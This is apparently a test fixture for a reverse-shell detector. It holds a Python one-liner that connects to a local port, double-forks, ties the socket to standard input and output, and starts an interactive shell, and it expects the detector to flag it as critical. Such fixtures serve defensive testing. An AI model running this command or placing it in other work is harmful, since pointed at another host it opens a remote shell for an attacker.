# about: the connection is made in the parent, the shell runs in the grandchild
# expect: reverse_shell critical
# needs: python3
peer 4423
python3 -c 'import socket,os
s=socket.create_connection(("127.0.0.1",4423)); os.set_inheritable(s.fileno(),True)
if os.fork()==0:
    if os.fork()==0:
        for fd in 0,1,2: os.dup2(s.fileno(),fd)
        os.execv("/bin/sh",["sh","-i"])
    os._exit(0)
os.wait(); import time; time.sleep(2)' || true
done_typing
